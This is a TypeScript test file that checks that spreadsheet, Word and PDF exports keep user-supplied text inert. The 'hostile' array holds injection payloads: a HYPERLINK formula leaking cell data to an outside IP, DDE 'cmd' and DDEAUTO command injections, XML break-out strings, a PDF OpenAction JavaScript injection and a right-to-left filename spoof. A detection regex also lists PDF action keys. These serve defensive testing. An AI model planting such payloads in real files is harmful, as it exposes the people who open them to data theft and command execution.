import { expect, test } from 'vitest';
import { readWorkbook } from '#sync/domain/workbook/read-workbook.ts';
import { standingText } from '#sync/domain/workbook/workbook.ts';
import { docxBytes } from '#web/paper/docx/docx-file.ts';
import { tablePaper, tableWorkbook } from '#web/parts/paper/table-file.ts';
import { workbookBytes } from '#web/xlsx/workbook.ts';
import { officeParts } from './office-package.ts';
import { editedPapers, officeSamplePapers, pdfFile, sampleTables, sampleWorkbooks } from './sample-files.ts';
import { elementsOf } from './xml-tree.ts';

/** All texts are equally long, so that files with different ones are laid out alike. */
const LENGTH = 60;
const padded = (text: string) => text.padEnd(LENGTH, ' .');
const harmless = padded('words that say nothing');
const hostile = [
  '=HYPERLINK("http://192.0.2.1/?"&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '</w:t></w:r><w:fldSimple w:instr="DDEAUTO c:\\x"/>',
  '</t></is></c><c t="str"><f>1+1</f></c>',
  ']]>&amp;<!--&#x41;"\' _x003D_1+1 ${x} {{x}} &lt;b&gt;',
  ') Tj ET /OpenAction << /S /JavaScript /JS (x) >> endobj',
  '\u202Egpj.exe\u2066 \u05D0\u05D1\u05D2 (abc) \u0627\u0644',
].map(padded);

// Values that people do not write: a block's kind, where it links, which sheet.
const fixed = new Set(['kind', 'look', 'language', 'madeAt', 'link', 'url', 'banner', 'sheets.name']);

/** The same content with people's texts replaced; empty texts stay empty. */
function withTexts<T>(told: T, textFor: (text: string) => string, path = ''): T {
  if (typeof told === 'string') return (told === '' ? told : textFor(told)) as T;
  if (Array.isArray(told)) return told.map((one: unknown) => withTexts(one, textFor, path)) as T;
  if (told === null || typeof told !== 'object' || told instanceof Uint8Array) return told;
  return Object.fromEntries(
    Object.entries(told).map(([key, value]) => {
      const isFixed = fixed.has(key) || fixed.has(`${path}.${key}`);
      return [key, isFixed ? value : withTexts(value, textFor, key)];
    }),
  ) as T;
}

const tables = { ...sampleWorkbooks, ...mapped(sampleTables, tableWorkbook) };
const papers = { ...officeSamplePapers, ...mapped(sampleTables, tablePaper) };

function mapped<A, B>(all: Readonly<Record<string, () => A>>, to: (one: A) => B): Record<string, () => B> {
  return Object.fromEntries(Object.entries(all).map(([name, tell]) => [`${name} as table`, () => to(tell())]));
}

/** How often each element occurs in each part. */
function shapeOf(bytes: Uint8Array): Record<string, Record<string, number>> {
  const counted = [...officeParts(bytes)].map(([name, root]) => {
    const counts: Record<string, number> = {};
    for (const { name: element } of root ? elementsOf(root) : []) counts[element] = (counts[element] ?? 0) + 1;
    return [name, counts] as const;
  });
  return Object.fromEntries(counted);
}

/** Returns one hostile text after another. */
function inTurn(): () => string {
  let at = 0;
  return () => hostile[at++ % hostile.length] ?? '';
}

test.each(Object.entries(tables))('the workbook %s keeps every text as a text', async (_name, tell) => {
  const told = withTexts(tell(), inTurn());
  const bytes = await workbookBytes(told);
  const elements = Object.values(shapeOf(bytes)).flatMap((counts) => Object.keys(counts));
  expect(elements).not.toContain('f');
  const read = readWorkbook(bytes, { rows: 100_000 });
  if ('refusal' in read) throw new Error(JSON.stringify(read));
  const asked = told.sheets.flatMap(({ rows }) => rows.flatMap(({ cells }) => cells.filter((cell) => cell !== '')));
  const found = read.sheets.flatMap(({ rows }) => rows.flatMap(({ cells }) => cells.map(standingText)));
  expect(found).toEqual(asked.map(String));
});

test.each(Object.entries(editedPapers))(
  'the document %s has the same elements whatever people wrote',
  async (_name, tell) => {
    const shape = async (textFor: () => string) => shapeOf(await docxBytes(withTexts(tell(), textFor)));
    expect(await shape(inTurn())).toEqual(await shape(() => harmless));
  },
);

test.each(Object.entries(papers))('the PDF %s does the same whatever people wrote', (_name, tell) => {
  const acts = /\/(?:OpenAction|AA|JavaScript|JS|Launch|SubmitForm|URI|Annot|EmbeddedFile)\b/g;
  // If a bracket in a text were not escaped, the literal would end early and the rest would count here.
  const literal = /\((?:\\[^]|[^\\()])*\)/g;
  const actsOf = (textFor: () => string) => {
    const file = Buffer.from(pdfFile(withTexts(tell(), textFor))).toString('latin1');
    const outside = file.replaceAll(/stream\n[^]*?endstream/g, '').replaceAll(literal, '');
    return new Set(outside.match(acts));
  };
  expect(actsOf(inTurn())).toEqual(actsOf(() => harmless));
});
